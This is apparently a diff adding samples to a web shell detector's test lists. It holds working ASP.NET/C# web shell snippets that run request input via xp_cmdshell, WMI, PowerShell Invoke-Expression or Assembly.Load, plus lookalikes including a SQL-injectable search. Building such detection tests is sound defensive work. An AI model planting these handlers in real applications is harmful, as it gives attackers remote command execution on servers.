@@ -74,6 +74,15 @@ SHELLS: list[tuple[str, str, bool, str]] = [
         "assembly-load",
     ),
     (
+        "body_buffer",
+        _handler(
+            "byte[] b = new byte[ctx.Request.ContentLength]; ctx.Request.InputStream.Read(b, 0, b.Length);"
+            ' Assembly.Load(b).CreateInstance("K").Equals(ctx);'
+        ),
+        False,
+        "assembly-load",
+    ),
+    (
         "compile_source",
         _handler(
             "var cp = new Microsoft.CSharp.CSharpCodeProvider(); var pars = new CompilerParameters();"
@@ -148,6 +157,74 @@ SHELLS: list[tuple[str, str, bool, str]] = [
         "native-load",
     ),
     (
+        "page_drop",
+        _handler('File.WriteAllText(ctx.Server.MapPath("~/aspnet_client/status.aspx"), ctx.Request.Form["body"]);'),
+        False,
+        "page-write",
+    ),
+    (
+        "sql_os_command",
+        _handler(
+            'var conn = new SqlConnection("Server=.;Integrated Security=true"); conn.Open();'
+            ' var cmd = new SqlCommand("EXEC master..xp_cmdshell \'" + ctx.Request["c"] + "\'", conn); cmd.ExecuteNonQuery();'
+        ),
+        False,
+        "sql-os-command",
+    ),
+    (
+        "reflected_loader",
+        _handler(
+            'MethodInfo m = typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) });'
+            ' object a = m.Invoke(null, new object[] { Convert.FromBase64String(ctx.Request.Form["d"]) }); ctx.Response.Write(a);'
+        ),
+        False,
+        "reflected-call",
+    ),
+    (
+        "connection_string_by_name",
+        _handler(
+            'ctx.Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings[ctx.Request["n"]].ConnectionString);'
+        ),
+        False,
+        "config-secret",
+    ),
+    (
+        "combined_path",
+        _handler(
+            'File.WriteAllBytes(Path.Combine(ctx.Server.MapPath("~/"), ctx.Request["name"]), Convert.FromBase64String(ctx.Request["d"]));'
+        ),
+        False,
+        "file-write",
+    ),
+    (
+        "pipe_relay",
+        _handler(
+            'var p = new System.IO.Pipes.NamedPipeClientStream(".", "relay"); p.Connect(1000);'
+            ' var w = new StreamWriter(p); w.Write(ctx.Request.Form["m"]); w.Flush();'
+        ),
+        False,
+        "pipe-relay",
+    ),
+    (
+        "wmi_create",
+        'using System.Management; using System.Web;\n'
+        "public class W : IHttpHandler { public bool IsReusable { get { return false; } }\n"
+        '  public void ProcessRequest(HttpContext ctx) { var c = new ManagementClass("Win32_Process");'
+        ' ManagementBaseObject p = c.GetMethodParameters("Create"); p["CommandLine"] = ctx.Request.Form["c"];'
+        ' c.InvokeMethod("Create", p, null); }\n}\n',
+        True,
+        "wmi-process",
+    ),
+    (
+        "powershell_iex",
+        'using System.Management.Automation; using System.Web;\n'
+        "public class P : IHttpHandler { public bool IsReusable { get { return false; } }\n"
+        '  public void ProcessRequest(HttpContext ctx) { PowerShell.Create().AddCommand("Invoke-Expression")'
+        '.AddArgument(ctx.Request["s"]).Invoke(); }\n}\n',
+        True,
+        "powershell",
+    ),
+    (
         "asmx_method",
         _USING
         + "public class Tools : WebService {\n"
@@ -210,12 +287,69 @@ TWINS: list[tuple[str, str, bool]] = [
         False,
     ),
     (
+        "body_to_fixed_file",
+        _handler(
+            "byte[] b = new byte[ctx.Request.ContentLength]; ctx.Request.InputStream.Read(b, 0, b.Length);"
+            ' File.WriteAllBytes(@"C:\\data\\inbox\\last.bin", b); ctx.Response.Write(b.Length);'
+        ),
+        False,
+    ),
+    (
         "upload_folder",
         _handler(
             "HttpPostedFile f = ctx.Request.Files[0];"
             ' f.SaveAs(ctx.Server.MapPath("~/uploads/") + Path.GetFileName(f.FileName));'
         ),
         False,
+    ),
+    (
+        "upload_combined_folder",
+        _handler(
+            "HttpPostedFile f = ctx.Request.Files[0];"
+            ' f.SaveAs(Path.Combine(ctx.Server.MapPath("~/uploads"), Path.GetFileName(f.FileName)));'
+        ),
+        False,
+    ),
+    (
+        "report_writer",
+        _handler(
+            'File.WriteAllText(ctx.Server.MapPath("~/reports/last.html"), HttpUtility.HtmlEncode(ctx.Request["title"]));'
+            ' File.WriteAllText(ctx.Server.MapPath("~/status.aspx"), "<%@ Page %>ok");'
+        ),
+        False,
+    ),
+    (
+        "spliced_search",
+        _handler(
+            'var conn = new SqlConnection("Server=.;Integrated Security=true");'
+            ' var cmd = new SqlCommand("SELECT name FROM people WHERE name LIKE \'" + ctx.Request["q"] + "%\'", conn);'
+            " conn.Open(); ctx.Response.Write(cmd.ExecuteScalar());"
+        ),
+        False,
+    ),
+    (
+        "named_connection",
+        _handler(
+            'ctx.Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings["Main"].Name + ctx.Request["x"]);'
+        ),
+        False,
+    ),
+    (
+        "pipe_status",
+        _handler(
+            'var p = new System.IO.Pipes.NamedPipeClientStream(".", "status"); p.Connect(1000);'
+            ' var w = new StreamWriter(p); w.Write("ping"); w.Flush(); var log = new StreamWriter(@"C:\\logs\\a.log");'
+            ' log.Write(ctx.Request["x"]);'
+        ),
+        False,
+    ),
+    (
+        "powershell_lookup",
+        'using System.Management.Automation; using System.Web;\n'
+        "public class P : IHttpHandler { public bool IsReusable { get { return false; } }\n"
+        '  public void ProcessRequest(HttpContext ctx) { PowerShell.Create().AddCommand("Get-Mailbox")'
+        '.AddParameter("Identity", ctx.Request["user"]).Invoke(); }\n}\n',
+        True,
     ),
     (
         "parameterised_query",
